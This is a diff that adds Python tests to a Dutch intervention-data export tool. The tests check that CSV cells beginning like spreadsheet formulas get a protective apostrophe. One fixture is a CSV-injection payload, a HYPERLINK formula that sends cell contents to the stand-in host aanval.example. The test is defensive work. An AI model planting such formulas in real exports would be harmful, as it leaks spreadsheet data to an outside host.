@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import json
 import os
+import re
 import shutil
 import subprocess
 import sys
@@ -214,3 +215,69 @@ def test_schema_tables_check_every_coded_column_against_its_code_list(shipped_pa
     assert {("vorm", "trainingsvormen"), ("status", "recordstatussen")} <= keys["trainingen"]
     assert ("soort", "activiteitsoorten") in keys["activiteiten"]
     assert _errors(shipped_package) == []
+
+
+FORMULA = '=HYPERLINK("https://aanval.example/?d="&A2;"Klik hier")'
+AT_LIMIT = "-" + "x" * 299  # samenvatting's maxLength (300) exactly, starting like a formula
+
+
+def _with_formula_texts(tmp_path: Path) -> Path:
+    """A copy of the repository where VoorZorg's texts start like formulas (=, -, @ and a tab)."""
+    repo = tmp_path / "repo"
+    for name in ("schemas", "vocab", "interventions", "coalitions", "rounds"):
+        shutil.copytree(ROOT / name, repo / name)
+    record = repo / "interventions" / "voorzorg.yaml"
+    text = record.read_text(encoding="utf-8").replace("naam: VoorZorg\n", f"naam: '{FORMULA}'\n", 1)
+    text = re.sub(r"samenvatting: >-\n(?:  .*\n)+", f"samenvatting: '{AT_LIMIT}'\n", text, count=1)
+    text = re.sub(r"eigenaar: (.*)\n", r"eigenaar: '@\1'\n", text, count=1)
+    text = re.sub(r"    titel: (Loket Gezond Leven.*)\n", r'    titel: "\\t\1"\n', text, count=1)
+    record.write_text(text, encoding="utf-8")
+    return repo
+
+
+def test_text_that_a_spreadsheet_would_run_gets_an_apostrophe(tmp_path: Path) -> None:
+    repo, out = _with_formula_texts(tmp_path), tmp_path / "pakket"
+    assert main(["--root", str(repo), "validate"]) == 0
+    assert main(["--root", str(repo), "export", "--out", str(out)]) == 0
+    voorzorg = next(row for row in _rows(out, "interventies") if row["id"] == "voorzorg")
+    assert voorzorg["naam"] == "'" + FORMULA
+    assert voorzorg["samenvatting"] == "'" + AT_LIMIT
+    assert voorzorg["eigenaar"].startswith("'@Nederlands")
+    sources = [row for row in _rows(out, "interventie-bronnen") if row["interventie"] == "voorzorg"]
+    assert sources[0]["titel"] == "'\tLoket Gezond Leven, interventiedatabase, VoorZorg"
+    assert sources[0]["volgnummer"] == "1"  # numbers are never text cells
+    json_record = next(r for r in json.loads((out / "records/interventies.json").read_text()) if r["id"] == "voorzorg")
+    assert json_record["naam"] == FORMULA  # the JSON keeps the record as it is
+    # The package still validates, with the longest text one character longer than the record's schema allows.
+    assert _errors(out) == []
+    descriptor = json.loads((out / "datapackage.json").read_text(encoding="utf-8"))
+    assert "krijgt in de CSV-bestanden een apostrof (') ervoor" in descriptor["description"]
+    assert "-5 blijft een getal" in descriptor["description"]
+
+
+def test_only_text_columns_ever_get_the_apostrophe(shipped_package: Path) -> None:
+    descriptor = json.loads((shipped_package / "datapackage.json").read_text(encoding="utf-8"))
+    for resource in descriptor["resources"]:
+        if resource.get("format") != "csv" or resource["path"].startswith("vocab/"):
+            continue
+        types = {field["name"]: field["type"] for field in resource["schema"]["fields"]}
+        for row in _rows(shipped_package, resource["name"]):
+            for name, value in row.items():
+                if types[name] != "string":
+                    assert not value.startswith("'"), (resource["name"], name, value)
+                else:
+                    assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (resource["name"], name, value)
+
+
+def test_chart_csv_files_keep_numbers_and_guard_text() -> None:
+    from kansrijk.site.parts.charts import csv_text
+
+    text = csv_text(("titel", "bedrag"), [("=SUM(A1:A9)", -5), ("-5", 2.5), ("@x", 3), ("+31", -1.25), ("gewoon", 0)])
+    assert list(csv.reader(text.splitlines())) == [
+        ["titel", "bedrag"],
+        ["'=SUM(A1:A9)", "-5"],
+        ["'-5", "2.5000"],
+        ["'@x", "3"],
+        ["'+31", "-1.2500"],
+        ["gewoon", "0"],
+    ]
